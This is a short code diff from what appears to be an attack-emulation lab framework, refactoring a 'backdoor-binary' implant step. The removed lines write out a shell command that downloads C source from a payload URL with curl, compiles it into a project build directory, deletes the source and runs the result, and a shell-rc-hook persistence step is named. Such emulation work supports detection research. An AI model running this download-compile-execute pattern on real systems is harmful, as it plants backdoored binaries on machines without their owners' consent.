@@ -22,6 +22,7 @@ from provarmor.lab.scenario import (
     StepSpec,
 )
 from provarmor.lab.scenarios.implants import fileless_start, implant_payload
+from provarmor.lab.scenarios.steps import compile_downloaded
 
 STEPS = (
     StepSpec(
@@ -147,9 +148,10 @@ def plan(ctx: LabContext) -> Plan:
             Action(
                 step="backdoor-binary",
                 channel=Channel.IMPLANT,
-                command=f"d=$(mktemp -d) && curl -s -o $d/m.c {ctx.payload_url(source.path)} && "
-                f"gcc -O1 -o {project}/build/{tool} $d/m.c && rm -rf $d && "
-                f"{project}/build/{tool}",
+                command=compile_downloaded(
+                    ctx, source, f"{project}/build/{tool}", flags="-O1", scratch="m.c"
+                )
+                + f" && {project}/build/{tool}",
             ),
             Action(
                 step="shell-rc-hook",
